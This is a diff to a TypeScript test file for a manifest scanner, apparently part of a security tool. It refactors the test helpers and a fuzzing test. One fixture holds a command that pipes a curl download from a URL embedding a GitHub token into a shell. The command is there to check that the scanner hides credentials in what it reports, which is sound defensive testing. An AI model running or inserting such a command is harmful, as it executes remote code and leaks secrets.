@@ -1,12 +1,14 @@
 import * as assert from "node:assert/strict";
-import type { Check, ScanContext, Severity } from "../../../core/scan/scanner.ts";
+import type { Check, Severity } from "../../../core/scan/scanner.ts";
 import { manifestScanner } from "../../../core/scan/scanners/manifest.ts";
 import { memorySource } from "../../../core/scan/source.ts";
+import { seeded } from "./mutation.ts";
+import { RecordingContext } from "./recording_context.ts";
 
 /** A scan's outcome: its checks, and what it said to its context. */
 interface Outcome {
   readonly checks: readonly Check[];
-  readonly notes: readonly unknown[];
+  readonly facts: Readonly<Record<string, unknown>>;
   readonly assets: readonly { readonly keys?: readonly string[] }[];
   readonly templates: readonly string[];
 }
@@ -14,22 +16,8 @@ interface Outcome {
 const bytesOf = (text: string) => new TextEncoder().encode(text);
 
 function scan(name: string, content: string | Uint8Array): Outcome {
-  const notes: unknown[] = [];
-  const assets: { keys?: readonly string[] }[] = [];
   const templates: string[] = [];
-  const context: ScanContext = {
-    limits: {
-      depth: 5,
-      members: 10000,
-      memberBytes: 2 ** 26,
-      unpackedBytes: 2 ** 30,
-      opcodes: 1e6,
-    },
-    note: (facts) => void notes.push(facts),
-    asset: (parts) => void assets.push(parts),
-    scanMember: () => assert.fail("manifests have no members"),
-    takeUnpacked: (bytes) => bytes,
-  };
+  const context = new RecordingContext();
   const scanner = manifestScanner({
     checkTemplate(text) {
       templates.push(text);
@@ -41,7 +29,9 @@ function scan(name: string, content: string | Uint8Array): Outcome {
   });
   const bytes = typeof content === "string" ? bytesOf(content) : content;
   const file = { name, source: memorySource(bytes), depth: 0 };
-  return { checks: [...scanner.scan(file, context)], notes, assets, templates };
+  const checks = [...scanner.scan(file, context)];
+  assert.deepEqual(context.members, []);
+  return { checks, facts: context.facts, assets: context.assets, templates };
 }
 
 const claims = (name: string, content: string | Uint8Array) =>
@@ -702,8 +692,8 @@ Deno.test("keys of TOML end with the table that they stand in", () => {
 });
 
 Deno.test("SR 2.11 the licence of a manifest is noted", () => {
-  const [note] = scan("c.json", '{"license": "Apache-2.0"}').notes;
-  assert.equal((note as { license?: unknown }).license, "Apache-2.0");
+  const { facts } = scan("c.json", '{"license": "Apache-2.0"}');
+  assert.equal(facts.license, "Apache-2.0");
 });
 
 Deno.test("positions are those of bytes, behind a byte order mark and letters of several bytes", () => {
@@ -726,7 +716,7 @@ Deno.test("no credential stands in what is told", () => {
     command: `curl https://example.org/${GITHUB_TOKEN} | sh`,
   });
   const outcome = scan("c.json", text);
-  const told = JSON.stringify([outcome.checks, outcome.notes, outcome.assets]);
+  const told = JSON.stringify([outcome.checks, outcome.facts, outcome.assets]);
   assert.equal(told.includes(GITHUB_TOKEN.slice(4, 16)), false, told);
   assert.equal(told.includes(password.slice(0, 7)), false, told);
   assert.ok(told.includes("GitHub token"));
@@ -741,36 +731,23 @@ Deno.test("very many findings are told as a number", () => {
   assert.match(failed(outcome).at(-1)?.message ?? "", /^4950 more/);
 });
 
-/** Numbers from 0 to 1, the same ones for the same seed. */
-function random(seed: number): () => number {
-  let state = seed;
-  return () => {
-    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
-    return state / 2 ** 32;
-  };
-}
-
 Deno.test("mutated manifests throw nothing, and each check has its severity", () => {
-  const next = random(20261121);
+  const next = seeded(20261121);
   const seeds: readonly (readonly [string, string])[] = [
     ...BENIGN.filter(([, text]) => text.length < 5000),
     ...HOSTILE.map(([, name, text]) => [name, text] as const),
   ];
   for (let round = 0; round < 4000; round++) {
-    const [name, text] = seeds[Math.floor(next() * seeds.length)] ?? ["c.json", ""];
+    const [name, text] = seeds[next(seeds.length)] ?? ["c.json", ""];
     let bytes = bytesOf(text);
-    for (let change = 0; change < 1 + next() * 6; change++) {
-      const at = Math.floor(next() * (bytes.length + 1));
-      const kind = next();
-      const piece = kind < 0.3
-        ? []
-        : kind < 0.7
-        ? [Math.floor(next() * 256)]
-        : [...bytes.subarray(0, at)];
+    for (let change = 0; change < 1 + next(6); change++) {
+      const at = next(bytes.length + 1);
+      const kind = next(10);
+      const piece = kind < 3 ? [] : kind < 7 ? [next(256)] : [...bytes.subarray(0, at)];
       bytes = new Uint8Array([
         ...bytes.subarray(0, at),
         ...piece,
-        ...bytes.subarray(at + (kind < 0.5 ? 1 : 0)),
+        ...bytes.subarray(at + (kind < 5 ? 1 : 0)),
       ]);
     }
     const outcome = scan(name, bytes);
